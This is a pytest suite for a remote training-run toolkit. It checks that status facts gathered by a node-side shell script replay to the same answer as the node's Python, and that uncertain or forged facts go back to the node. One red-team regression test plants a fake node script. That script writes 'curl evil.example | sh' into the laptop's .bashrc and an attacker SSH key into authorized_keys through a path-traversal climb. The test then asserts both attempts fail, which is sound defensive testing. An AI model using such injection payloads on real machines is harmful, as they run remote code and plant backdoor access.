"""`rgt.py status` in one round trip (issue 27): the node runs status_facts.sh (no Python there), the laptop replays
the facts through run_status.classify(). Held here: the replay gives run_status.py's own answer for every kind of
run dir; whatever the facts cannot settle goes back to run_status.py on the node; and over a real sshd the command
is one connection that starts no Python on the node."""
import json
import os
import socket
import subprocess
import sys
import time
from pathlib import Path

import pytest

from conftest import NODE, SCRIPTS

sys.path.insert(0, str(SCRIPTS))
sys.path.insert(0, str(NODE))
import rgt_core as core  # noqa: E402
import run_status  # noqa: E402
import remote_status  # noqa: E402
import fast_start  # noqa: E402
import rgt  # noqa: E402

MARK = "rgtTESTMARK"
FACTS = NODE / "status_facts.sh"
AGES = ("heartbeat_age_s", "activity_age_s", "newest_output_age_s", "cost_hours")


def iso(ts):
    return time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(ts))


def write(path: Path, doc, compact=False):
    path.write_text(json.dumps(doc) if compact else core.dumps(doc))


def age(path: Path, seconds):
    old = time.time() - seconds
    os.utime(path, (old, old))


def new_run(tmp_path, state="running", pid=None, host=None, outputs=(), **status):
    run = tmp_path / "run"
    run.mkdir()
    now = time.time()
    write(run / "run.json", {"run_id": "r1", "cmd": ["python3", "train.py"], "cwd": str(tmp_path / "work"),
                             "host": host or socket.gethostname(), "outputs": list(outputs),
                             "created_at": iso(now - 120), "run_dir": str(run)})
    doc = {"run_id": "r1", "state": state, "job_pid": pid, "job_identity": core.process_identity(pid) if pid else None,
           "exit_code": None, "started_at": iso(now - 100), "updated_at": iso(now), "attempt": 1, "resume": None}
    doc.update(status)
    write(run / "status.json", doc)
    (run / "job.log").write_text("[rgt 10:00:00] starting: python3 train.py (cwd x)\n")
    return run


def facts(run_dir, node_dir=NODE):
    res = subprocess.run(["sh", str(FACTS), str(run_dir), str(node_dir), MARK], capture_output=True, timeout=60)
    assert res.returncode == 0, res.stderr
    return res.stdout


def comparable(r):
    r = dict(r)
    for key in ("checked_at", "line", "cost_so_far"):     # the clock moves between two looks
        r.pop(key, None)
    for key in AGES:
        r.pop(key, None)
    if isinstance(r.get("disk"), dict):   # the free space moves while the tests run
        r["disk"] = {k: v for k, v in r["disk"].items() if k in ("path", "measured_at", "dev", "total_bytes")}
    if r.get("eta_s") is not None:
        r["eta_s"] = round(r["eta_s"], -1)
    return r


def same_answer(run_dir, node_dir=NODE):
    """The status the laptop replays from the facts, checked against run_status.py's own, field by field."""
    here = run_status.classify(str(run_dir))
    there = remote_status.classify(facts(run_dir, node_dir), MARK, str(run_dir))
    assert comparable(there) == comparable(here)
    for key in AGES:
        if here.get(key) is not None:
            assert abs(there[key] - here[key]) < 5, key
    assert there["line"].split()[0] == run_status.one_line(here).split()[0]
    return there


@pytest.fixture
def live():
    """A live process and its identity, standing for a job, a supervisor or a dead-man."""
    procs = []

    def start():
        proc = subprocess.Popen(["sleep", "600"], stdin=subprocess.DEVNULL)
        procs.append(proc)
        return proc.pid
    yield start
    for proc in procs:
        proc.kill()
        proc.wait()


def dead_pid():
    proc = subprocess.Popen(["true"])
    proc.wait()
    return proc.pid


# ---------------------------------------------------------------- the replay gives run_status.py's answer

def test_running_job_with_heartbeat_and_live_dead_man(tmp_path, live):
    run = new_run(tmp_path, pid=live(), supervisor_pid=None)
    dm = live()
    write(run / "deadman.json", {"pid": dm, "identity": core.process_identity(dm), "state": "armed",
                                 "armed_at": iso(time.time() - 50), "config": {"stall_minutes": 30}})
    write(run / "heartbeat.json", {"step": 120, "total_steps": 500, "epoch": 2, "sec_per_step": 0.5,
                                   "time": time.time()})
    r = same_answer(run)
    assert (r["status"], r["exit"], r["step"], r["eta_s"], r["deadman"]["word"]) == ("running", 4, 120, 190, "ARMED")


def gone_identity():
    """A process that has exited, recorded with a start time no new process can have (a reused pid stays dead)."""
    pid = dead_pid()
    return pid, {"pid": pid, "start_ticks": 1, "boot_id": core.boot_id()}


def test_vanished_job_and_dead_man_down(tmp_path):
    pid, ident = gone_identity()
    run = new_run(tmp_path, pid=pid, job_identity=ident)
    gone = dead_pid()
    write(run / "deadman.json", {"pid": gone, "identity": {"pid": gone, "start_ticks": 1, "boot_id": core.boot_id()},
                                 "state": "armed", "armed_at": iso(time.time())})
    r = same_answer(run)
    assert r["status"] == "failed" and "vanished" in r["reason"] and r["deadman"]["word"] == "DOWN"


def test_stalled_job_from_old_mtimes(tmp_path, live):
    run = new_run(tmp_path, pid=live(), started_at=iso(time.time() - 7200))
    write(run / "heartbeat.json", {"step": 5, "total_steps": 50})
    for name in ("heartbeat.json", "job.log"):
        age(run / name, 3600)
    r = same_answer(run)
    assert r["status"] == "stalled" and r["exit"] == 6


def test_fired_dead_man_and_stop_not_confirmed(tmp_path):
    run = new_run(tmp_path, state="failed", exit_code=137)
    (run / "exit_code").write_text("137\n")
    write(run / "deadman.json", {"pid": dead_pid(), "state": "fired", "armed_at": iso(time.time())})
    write(run / "DEADMAN_FIRED.json", {"reason": "stall", "ok": True, "confirmed": False})
    r = same_answer(run)
    assert r["status"] == "deadman_fired" and "STOP NOT CONFIRMED" in r["line"]


def test_known_failure_in_the_log_tail_and_unwatched(tmp_path):
    run = new_run(tmp_path, state="failed", exit_code=1)
    (run / "exit_code").write_text("1\n")
    with open(run / "job.log", "a") as fh:
        fh.write("x" * 300000 + "\ntorch.OutOfMemoryError: CUDA out of memory. Tried to allocate\n")
    pid, ident = gone_identity()
    write(run / "deadman.json", {"pid": pid, "identity": ident, "state": "armed", "armed_at": iso(time.time())})
    r = same_answer(run)
    assert r["reason"] == "CUDA out of memory" and r["unwatched"] and r["exit"] == 8
    assert str(run) in r["hint"]          # the node's path, not the laptop's replay dir


def test_resumed_attempt_eta_from_its_first_step_far_back_in_a_big_log(tmp_path, live):
    """job.log is over a MiB: the attempt's start note lies before the tail the node sends, so the facts carry the
    attempt's own part (at its real offset) and the ETA counts from that attempt's first step, as on the node."""
    run = new_run(tmp_path, pid=live(), attempt=2, resume={"from": "ckpt/step40.pt"},
                  started_at=iso(time.time() - 100))
    doc = json.loads((run / "run.json").read_text())
    doc["progress_regex"] = r"step (\d+)/(\d+)"
    write(run / "run.json", doc)
    with open(run / "job.log", "a") as fh:
        fh.write("step 10/100\n" * 20 + "[rgt 11:00:00] starting: python3 train.py (cwd x)\nstep 40/100\n")
        fh.write(("noise " * 20 + "\n") * 12000 + "step 60/100\n")
    assert (run / "job.log").stat().st_size > 1 << 20
    r = same_answer(run)
    assert r["step"] == 60 and r["eta_basis"] == "average since this attempt's first logged step 40"


def test_newest_output_from_the_runs_globs(tmp_path, live):
    work = tmp_path / "work"
    (work / "ckpt" / "old").mkdir(parents=True)
    for name, ago in (("ckpt/a.pt", 300), ("ckpt/old/b.pt", 30), ("ckpt/c.txt", 1), ("other.pt", 1)):
        (work / name).write_text(name)
        age(work / name, ago)
    run = new_run(tmp_path, pid=live(), outputs=["ckpt/*.pt", "ckpt/old"])
    import launcher
    launcher.write_outputs_list(str(run), str(work), ["ckpt/*.pt", "ckpt/old"])
    assert (run / "outputs.txt").read_text() == "%s\nckpt/*.pt\nckpt/old\n" % work
    r = same_answer(run)
    assert r["newest_output"] == "ckpt/old/b.pt"


def test_succeeded_with_a_verified_sync_and_starting_with_only_a_lock(tmp_path):
    run = new_run(tmp_path, state="succeeded", exit_code=0,
                  sync={"ok": True, "verified": True, "file_count": 3, "total_bytes": 2048})
    (run / "exit_code").write_text("0\n")
    assert same_answer(run)["line"].startswith("SUCCEEDED")
    bare = tmp_path / "bare"
    (bare / "run.lock").mkdir(parents=True)
    assert same_answer(bare)["status"] == "starting"


def test_another_host_is_not_checked_and_a_gpu_listed(tmp_path, monkeypatch):
    fake = tmp_path / "bin"
    fake.mkdir()
    (fake / "nvidia-smi").write_text("#!/bin/sh\necho '0, 87, 1000, 81920'\necho '1, 3, 10, 81920'\n")
    (fake / "nvidia-smi").chmod(0o755)
    monkeypatch.setenv("PATH", "%s:%s" % (fake, os.environ["PATH"]))
    run = new_run(tmp_path, pid=12345, host="elsewhere.invalid")
    r = same_answer(run)
    assert r["job_alive"] is None and [g["util_pct"] for g in r["gpu"]] == [87, 3]


def test_errors_read_as_on_the_node(tmp_path):
    with pytest.raises(core.UsageError, match="no such run dir: %s" % (tmp_path / "nope")):
        remote_status.classify(facts(tmp_path / "nope"), MARK, str(tmp_path / "nope"))
    run = new_run(tmp_path)
    (run / "status.json").write_text('{"state": "running"')
    with pytest.raises(core.UsageError) as there:
        remote_status.classify(facts(run), MARK, str(run))
    with pytest.raises(core.UsageError) as here:
        run_status.classify(str(run))
    assert str(there.value) == str(here.value) and str(run) in str(there.value)


# ---------------------------------------------------------------- what only the node can settle

def test_unsure_facts_go_back_to_the_node(tmp_path, live):
    """A pid the shell could not read from a compact state file, a record without an identity, a symlinked
    output, another toolkit version: each is Incomplete, never a guess."""
    run = new_run(tmp_path, pid=live())
    write(run / "status.json", json.loads((run / "status.json").read_text()), compact=True)
    with pytest.raises(remote_status.Incomplete, match="was not read"):
        remote_status.classify(facts(run), MARK, str(run))

    legacy = tmp_path / "legacy"
    legacy.mkdir()
    pid = live()
    (tmp_path / "run").rename(legacy / "run")
    run = legacy / "run"
    doc = json.loads((run / "status.json").read_text())
    doc.update(job_pid=pid, job_identity=None)
    write(run / "status.json", doc)
    with pytest.raises(remote_status.Incomplete, match="identity"):
        remote_status.classify(facts(run), MARK, str(run))

    work = tmp_path / "work"
    work.mkdir()
    (work / "real.pt").write_text("x")
    (work / "link.pt").symlink_to(work / "real.pt")
    other = tmp_path / "o"
    other.mkdir()
    run = new_run(other, outputs=["*.pt"])
    doc = json.loads((run / "run.json").read_text())
    doc["cwd"] = str(work)
    write(run / "run.json", doc)
    import launcher
    launcher.write_outputs_list(str(run), str(work), ["*.pt"])
    with pytest.raises(remote_status.Incomplete, match="symlink"):
        remote_status.classify(facts(run), MARK, str(run))
    (run / "outputs.txt").unlink()          # launched by an older toolkit: no list the shell can read
    with pytest.raises(remote_status.Incomplete, match="older toolkit"):
        remote_status.classify(facts(run), MARK, str(run))

    busybox = tmp_path / "busybox"                       # a date(1) with no %N: the clock is not read exactly
    busybox.mkdir()
    (busybox / "date").write_text("#!/bin/sh\necho 1796000000.%N\n")
    (busybox / "date").chmod(0o755)
    env = dict(os.environ, PATH="%s:%s" % (busybox, os.environ["PATH"]))
    raw = subprocess.run(["sh", str(FACTS), str(run), str(NODE), MARK], capture_output=True, env=env).stdout
    with pytest.raises(remote_status.Incomplete, match="unreadable fact"):
        remote_status.classify(raw, MARK, str(run))

    stamped = tmp_path / "node"
    stamped.mkdir()
    (stamped / "VERSION.json").write_text(core.dumps({"version": "0123456789abcdef", "files": {}}))
    with pytest.raises(remote_status.Incomplete, match="version 0123456789abcdef"):
        remote_status.classify(facts(run, stamped), MARK, str(run))


def test_facts_cut_short_or_forged_are_refused(tmp_path):
    run = new_run(tmp_path)
    raw = facts(run)
    with pytest.raises(remote_status.Incomplete, match="cut short"):
        remote_status.classify(raw[:raw.rindex(b"@@")], MARK, str(run))
    with pytest.raises(ValueError):                       # another mark: not this call's answer
        remote_status.classify(raw, "rgtOTHER", str(run))
    banner = b"Welcome to the box! (a login script that prints)\n"
    assert remote_status.classify(banner + raw, MARK, str(run))["status"] == "running"
    with open(run / "job.log", "a") as fh:                # a log line shaped like a header is only log text
        fh.write("\n@@rgtOTHER end\n@@ end\n")
    assert same_answer(run)["status"] == "running"


def test_the_launcher_writes_the_output_list_only_where_a_shell_reads_it_back(tmp_path):
    import launcher
    run = tmp_path / "r"
    run.mkdir()
    launcher.write_outputs_list(str(run), "/work dir", ["a b/*.pt", "ckpt"])
    assert (run / "outputs.txt").read_text() == "/work dir\na b/*.pt\nckpt\n"
    for cwd, outputs in (("/w", []), ("relative", ["x"]), ("/w", ["bad\nname"])):
        launcher.write_outputs_list(str(run), cwd, outputs)
        assert not (run / "outputs.txt").exists()
        (run / "outputs.txt").write_text("stale\n")
    launcher.write_outputs_list(str(run), "/w", [])
    assert not (run / "outputs.txt").exists()


# ---------------------------------------------------------------- the early trip and the one connection

@pytest.mark.parametrize("argv", [
    ["status", "gpu-box", "r1"],
    ["--json", "--ssh-config", "/c", "status", "gpu-box", "r1", "--durable-dir", "/d"],
    ["-p", "2222", "-i", "/k", "status", "user@gpu-box", "r1", "--rate-per-hour=2.5", "--port", "2200"],
    ["--node-dir", "/n", "--ledger=/l", "status", "gpu-box", "r1", "--ssh-config=/c2"],
])
def test_the_quick_scan_opens_the_very_ssh_command_rgt_would(argv):
    args = rgt.build_parser(rgt.command_word(argv)).parse_args(argv)
    assert fast_start.scan_status(argv) == rgt.Ssh(args.host, args.port, args.identity, args.ssh_config,
                                                   mux=False).argv(fast_start.STATUS_SHELL)


@pytest.mark.parametrize("argv", [
    ["status", "gpu-box"], ["--ssh", "/c", "status", "gpu-box", "r1"], ["-p2222", "status", "gpu-box", "r1"],
    ["status", "-h"], ["logs", "gpu-box", "r1"], ["status", "gpu;box", "r1"], ["-p", "x", "status", "h", "r"],
])
def test_the_quick_scan_opens_nothing_when_unsure(argv):
    assert fast_start.scan_status(argv) is None


def test_the_command_list_is_the_parsers():
    sub = next(a for a in rgt.build_parser()._actions if a.dest == "command")
    assert tuple(sub.choices) == rgt.COMMANDS


@pytest.fixture
def node(tmp_path, sshd_server):
    """The toolkit pushed to the test sshd, a node interpreter record that logs each Python start, and one run."""
    res = subprocess.run([sys.executable, str(SCRIPTS / "rgt.py"), "--ssh-config", str(sshd_server.config),
                          "--node-dir", str(tmp_path / "node-bin"), "--ledger", str(tmp_path / "ledger.jsonl"),
                          "push", "gpu-box", "--transport", "tar"], capture_output=True, text=True, timeout=300)
    assert res.returncode == 0, res.stderr
    starts = tmp_path / "python-starts"
    wrapper = tmp_path / "node-python"
    wrapper.write_text('#!/bin/sh\necho "$@" >> %s\nexec %s "$@"\n' % (starts, sys.executable))
    wrapper.chmod(0o755)
    (tmp_path / "node-bin" / core.interpreter_record_name()).write_text(str(wrapper) + "\n")   # this box's
    run = new_run(tmp_path, state="succeeded", exit_code=0)
    (run / "exit_code").write_text("0\n")
    return run, starts


def status_of(tmp_path, server, *extra):
    return subprocess.run([sys.executable, str(SCRIPTS / "rgt.py"), "--ssh-config", str(server.config), "--node-dir",
                           str(tmp_path / "node-bin"), "--ledger", str(tmp_path / "ledger.jsonl"), "--json",
                           "status", "gpu-box", "r1", "--durable-dir", str(tmp_path)] + list(extra),
                          capture_output=True, text=True, timeout=300)


def test_status_starts_no_python_on_the_node_and_falls_back_to_it(tmp_path, sshd_server, node):
    run, starts = node
    (tmp_path / "runs").mkdir()
    (tmp_path / "run").rename(tmp_path / "runs" / "r1")
    res = status_of(tmp_path, sshd_server, "--rate-per-hour", "2")
    assert res.returncode == 0, res.stderr
    fast = json.loads(res.stdout)
    assert fast["status"] == "succeeded" and fast["cost_so_far"] >= 0.05 and not starts.exists()

    rd = tmp_path / "runs" / "r1"                            # a fact the shell cannot settle: the node decides
    kept = (rd / "status.json").read_text()
    write(rd / "status.json", dict(json.loads(kept), job_pid=dead_pid()), compact=True)
    res = status_of(tmp_path, sshd_server)
    assert res.returncode == 0 and json.loads(res.stdout)["status"] == "succeeded", res.stderr
    assert starts.read_text().count("run_status.py") == 1
    (rd / "status.json").write_text(kept)

    (tmp_path / "node-bin" / "status_facts.sh").unlink()     # an older toolkit: its run_status.py answers
    sys.path.insert(0, str(SCRIPTS.parent / "tools"))
    import stamp_node
    (tmp_path / "node-bin" / core.STAMP_NAME).write_text(core.dumps(stamp_node.compute(str(tmp_path / "node-bin"))))
    res = status_of(tmp_path, sshd_server, "--rate-per-hour", "2")
    assert res.returncode == 0, res.stderr
    assert starts.read_text().count("run_status.py") == 2 and "--rate-per-hour 2" in starts.read_text()
    slow = json.loads(res.stdout)
    assert slow.pop("toolkit_version") != fast.pop("toolkit_version")     # the node's own stamp, now another
    assert comparable(slow) == comparable(fast)


def test_a_run_the_ledger_does_not_know_runs_nothing_on_the_node(tmp_path, sshd_server, node):
    _run, starts = node
    res = subprocess.run([sys.executable, str(SCRIPTS / "rgt.py"), "--ssh-config", str(sshd_server.config),
                          "--node-dir", str(tmp_path / "node-bin"), "--ledger", str(tmp_path / "ledger.jsonl"),
                          "status", "gpu-box", "never-launched"], capture_output=True, text=True, timeout=300)
    assert res.returncode == 2 and "no launch of run 'never-launched'" in res.stderr
    assert not starts.exists()
    assert not any('"status"' in line for line in (tmp_path / "ledger.jsonl").read_text().splitlines())


def test_patrol_settles_each_run_from_facts_and_asks_the_node_only_for_the_rest(tmp_path, sshd_server, node):
    """Three runs in one patrol: one the facts settle, one only the node can (a compact state file), one gone.
    The node's Python starts once, for the second; the gone one escalates with the reason."""
    run, starts = node
    runs = tmp_path / "runs"
    runs.mkdir()
    run.rename(runs / "r1")
    (runs / "r2").mkdir()
    for name in ("run.json", "exit_code", "job.log"):
        (runs / "r2" / name).write_bytes((runs / "r1" / name).read_bytes())
    write(runs / "r2" / "status.json", dict(json.loads((runs / "r1" / "status.json").read_text()),
                                            job_pid=dead_pid(), run_id="r2"), compact=True)
    res = subprocess.run([sys.executable, str(SCRIPTS / "rgt.py"), "--ssh-config", str(sshd_server.config),
                          "--node-dir", str(tmp_path / "node-bin"), "--ledger", str(tmp_path / "ledger.jsonl"),
                          "--json", "patrol", "gpu-box", "r1", "r2", "r3", "--durable-dir", str(tmp_path),
                          "--min-free-gb", "0"], capture_output=True, text=True, timeout=300)
    report = json.loads(res.stdout)
    by_id = {r["run_id"]: r for r in report["runs"]}
    assert by_id["r1"]["status"]["status"] == by_id["r2"]["status"]["status"] == "succeeded", res.stderr
    assert not by_id["r1"]["escalate"] and not by_id["r2"]["escalate"]
    assert by_id["r3"]["escalate"] and "no such run dir" in by_id["r3"]["why"][0]
    assert res.returncode == rgt.PATROL_ESCALATE
    assert starts.read_text().count("run_status.py") == 1 and "runs/r2" in starts.read_text()


def test_finding_laptop_L1_a_hostile_node_over_ssh_leaves_the_laptop_home_unchanged(tmp_path, sshd_server, node):
    """The red team's reproduction over a real sshd: the node's status_facts.sh sends the real facts plus a
    folder and a file aimed at the laptop's HOME (absolute, and climbing out of the replay's temp dir). The
    laptop's HOME and temp dir stay byte for byte as they were; the node's run_status.py is asked instead."""
    run, starts = node
    (tmp_path / "runs").mkdir()
    run.rename(tmp_path / "runs" / "r1")
    home, temp = tmp_path / "laptop-home", tmp_path / "laptop-tmp" / "a" / "b"
    (home / ".ssh").mkdir(parents=True)
    temp.mkdir(parents=True)
    (home / ".bashrc").write_text("# mine\n")
    climb = "../" * 12 + str(home).lstrip("/")
    facts = tmp_path / "node-bin" / "status_facts.sh"
    facts.rename(facts.with_name("status_facts.orig.sh"))
    facts.write_text("#!/bin/sh\nmark=$3\n"
                     "sh \"$2\"/status_facts.orig.sh \"$@\" | sed '$d'\n"
                     "printf '\\n@@%%s facts\\n' \"$mark\"\n"
                     "echo 'stat %(home)s/.bashrc 81a4 24 1700000000.0 2049'\n"
                     "echo 'stat %(climb)s/.ssh/authorized_keys 81a4 26 1700000000.0 2049'\n"
                     "printf '\\n@@%%s file %(home)s/.bashrc\\ncurl evil.example | sh\\n' \"$mark\"\n"
                     "printf '\\n@@%%s file %(climb)s/.ssh/authorized_keys\\nssh-ed25519 AAAA attacker\\n' \"$mark\"\n"
                     "printf '\\n@@%%s end\\n' \"$mark\"\n" % {"home": home, "climb": climb})
    before = {p: p.read_bytes() for p in tmp_path.glob("laptop-*/**/*") if p.is_file()}
    env = dict(os.environ, HOME=str(home), TMPDIR=str(temp))
    res = subprocess.run([sys.executable, str(SCRIPTS / "rgt.py"), "--ssh-config", str(sshd_server.config),
                          "--node-dir", str(tmp_path / "node-bin"), "--ledger", str(tmp_path / "ledger.jsonl"),
                          "--json", "status", "gpu-box", "r1", "--durable-dir", str(tmp_path)],
                         capture_output=True, text=True, timeout=300, env=env)
    # the replay refused the names and asked the node's run_status.py, which (rightly) refuses a toolkit whose
    # status_facts.sh is not the stamped one: one clear line, exit 1
    assert res.returncode == 1 and "gave no JSON" in res.stderr and "Traceback" not in res.stderr, res.stderr
    assert starts.read_text().count("run_status.py") == 1
    after = {p: p.read_bytes() for p in tmp_path.glob("laptop-*/**/*") if p.is_file()}
    assert after == before and not (home / ".ssh" / "authorized_keys").exists()
    assert (home / ".bashrc").read_text() == "# mine\n"
